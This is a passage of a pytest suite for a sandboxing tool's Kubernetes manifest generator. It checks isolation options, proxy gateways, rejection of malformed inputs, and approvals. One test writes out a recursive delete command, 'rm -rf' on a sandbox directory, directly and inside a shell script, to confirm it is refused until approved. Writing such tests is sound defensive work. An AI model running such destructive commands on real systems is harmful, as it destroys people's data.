                                              "runtime-default", "--isolation", "gvisor", "--runtime-class", "kata"],
                            ["true"])
    session = documents[0]["metadata"]["labels"]["vectraguard.io/session"]
    shown = root.run(["logs", "show", session, "--json"], cwd=workspace)
    text = json.dumps(json.loads(shown.stdout))
    assert "--seccomp runtime-default" in text and "--runtime-class kata" in text, text


def test_a_full_stdout_is_a_plain_error(root: Caller, workspace: Path) -> None:
    with open("/dev/full", "wb") as full:
        argv, env = root.argv(root.vg(["kube", "generate", "-p", "untrusted", "--workspace", "none", "--", "true"]))
        result = subprocess.run(argv, cwd=workspace, env=env, stdout=full, stderr=subprocess.PIPE, timeout=120,
                                check=False)
    assert result.returncode == 125
    assert b"could not be written" in result.stderr and b"internal error" not in result.stderr, result.stderr


@pytest.mark.parametrize("options", [
    ["--workdir", os.fsdecode(b"/a\xff")],
    ["--gateway-ip", "::ffff:127.0.0.1", "--network", "allowlist", "-p", "dev"],
    ["--set", "image=UPPER/x"],
    ["--set", "image=a@sha256:zz"],
])
def test_what_would_reach_the_cluster_as_other_text_is_refused(root: Caller, workspace: Path,
                                                               options: list[str]) -> None:
    refused(root, ["kube", "generate", "-p", "untrusted", "--workspace", "none", *options, "--", "true"], workspace)


def test_an_ipv6_gateway_listens_on_ipv6(root: Caller, workspace: Path) -> None:
    _, documents = generate(root, workspace, ["-p", "dev", "--network", "allowlist", "--workspace", "none",
                                              "--gateway-ip", "fd00::10"], ["pip", "download", "x"])
    [deployment] = by_kind(documents, "Deployment")
    args = pod_template(deployment)["spec"]["containers"][0]["args"]
    assert args[args.index("--listen") + 1] == "[::]:3128"
    env = {e["name"]: e.get("value") for e in documents[0]["spec"]["containers"][0]["env"]}
    assert env["HTTPS_PROXY"] == "http://[fd00::10]:3128"


def _grant(root: Caller, workspace: Path, args: list[str]) -> None:
    """`approvals grant ARGS`, answered yes on a terminal."""
    term = Terminal(root, workspace, ["approvals", "grant", *args])
    term.expect(b"? [")
    term.send(b"y\r")
    assert term.wait() == 0, term.seen


def test_a_remembered_approval_counts_unless_it_is_bound_to_this_hosts_files(root: Caller, workspace: Path) -> None:
    options = ["-p", "default", "--workspace", "none"]
    line = ["rm", "-rf", "/home/sandbox/old-build"]
    refused(root, ["kube", "generate", *options, "--", *line], workspace)
    _grant(root, workspace, [*options, "--", *line])
    generate(root, workspace, options, line)  # the same command, directory and profile: approved
    (workspace / "clean.sh").write_text("rm -rf /home/sandbox/old-build\n")
    refused(root, ["kube", "generate", *options, "--", "sh", "clean.sh"], workspace)
    _grant(root, workspace, [*options, "--", "sh", "clean.sh"])
    message = refused(root, ["kube", "generate", *options, "--", "sh", "clean.sh"], workspace)
    assert "not used" in message and "clean.sh" in message, message

